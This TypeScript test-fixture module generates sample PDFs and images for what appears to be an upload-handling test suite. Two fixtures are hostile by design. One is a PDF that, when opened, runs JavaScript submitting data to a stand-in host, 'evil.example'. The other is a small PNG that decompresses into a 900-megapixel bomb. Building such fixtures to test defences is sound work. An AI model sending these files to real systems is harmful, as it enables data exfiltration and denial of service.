/** Real files for tests, made on the spot: PDFs with pdf-lib, rasters with sharp, and a few crafted by hand. */
import zlib from 'node:zlib';
import { PDFDocument, PDFName, PDFString, rgb, StandardFonts } from 'pdf-lib';
import sharp from 'sharp';

/** An image with some structure (a frame and a bar), so that decoding and re-encoding have work to do. */
function drawing(width: number, height: number) {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">
    <rect x="0" y="0" width="${width}" height="${height}" fill="#ffffff"/>
    <rect x="${Math.floor(width / 10)}" y="${Math.floor(height / 10)}" width="${Math.floor(width / 2)}" height="${Math.floor(height / 4)}"
      fill="none" stroke="#000000" stroke-width="3"/>
    <rect x="0" y="${height - 10}" width="${width}" height="10" fill="#1e40af"/>
  </svg>`;
  return sharp(Buffer.from(svg));
}

export const samplePng = (width = 640, height = 480) => drawing(width, height).png().toBuffer();
export const sampleJpeg = (width = 640, height = 480) => drawing(width, height).jpeg({ quality: 85 }).toBuffer();
export const sampleTiff = (width = 640, height = 480) => drawing(width, height).tiff({ compression: 'lzw' }).toBuffer();

/** A JPEG stored landscape (400 × 300) with EXIF orientation 6: browsers show it portrait, 300 × 400. */
export const rotatedJpeg = () => drawing(400, 300).jpeg().withMetadata({ orientation: 6 }).toBuffer();

/** A PDF with one page per size (in points), each with a title and a box. */
/** US Letter portrait, in PDF points. */
export const LETTER: [number, number] = [612, 792];
/** A4 landscape, in PDF points. */
export const A4_LANDSCAPE: [number, number] = [842, 595];

export async function samplePdf(pageSizes: Array<[number, number]> = [LETTER]): Promise<Buffer> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  pageSizes.forEach(([width, height], index) => {
    const page = document.addPage([width, height]);
    page.drawText(`P&ID sheet ${index + 1}`, { x: 36, y: height - 60, size: 24, font, color: rgb(0, 0, 0) });
    page.drawRectangle({ x: 72, y: 72, width: width / 3, height: height / 4, borderColor: rgb(0, 0, 0), borderWidth: 2 });
  });
  return Buffer.from(await document.save());
}

/** A one-page PDF that runs JavaScript when opened (an OpenAction) and from a document-level script. */
export async function pdfWithJavaScript(): Promise<Buffer> {
  const document = await PDFDocument.load(await samplePdf());
  const script = document.context.register(
    document.context.obj({
      Type: 'Action',
      S: 'JavaScript',
      JS: PDFString.of('app.alert("hello"); this.submitForm("https://evil.example/")'),
    }),
  );
  document.catalog.set(PDFName.of('OpenAction'), script);
  const names = document.context.obj({ JavaScript: document.context.obj({ Names: [PDFString.of('run'), script] }) });
  document.catalog.set(PDFName.of('Names'), document.context.register(names));
  return Buffer.from(await document.save({ useObjectStreams: false }));
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body) >>> 0);
  return Buffer.concat([length, body, crc]);
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/**
 * A valid, white, 1-bit PNG of `width` × `height` pixels. 30000 × 30000 (900 megapixels) compresses
 * to about 150 KB: a decompression bomb.
 */
export function hugePng(width = 30_000, height = 30_000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 1; // bit depth
  header[9] = 0; // greyscale
  const rowLength = 1 + Math.ceil(width / 8);
  const row = Buffer.alloc(rowLength, 0xff);
  row[0] = 0; // filter: none
  const deflate = zlib.deflateSync(Buffer.concat(Array.from({ length: height }, () => row)), { level: 9 });
  return Buffer.concat([PNG_SIGNATURE, pngChunk('IHDR', header), pngChunk('IDAT', deflate), pngChunk('IEND', Buffer.alloc(0))]);
}

/** A small valid PNG grown to exactly `totalBytes` with a private ancillary chunk, which decoders skip. */
export async function pngOfSize(totalBytes: number): Promise<Buffer> {
  const png = await samplePng(64, 48);
  const iend = png.subarray(png.length - 12);
  const body = png.subarray(0, png.length - 12);
  const padding = totalBytes - png.length - 12;
  if (padding < 0) throw new Error('too small');
  return Buffer.concat([body, pngChunk('pdDg', Buffer.alloc(padding, 0x20)), iend]);
}
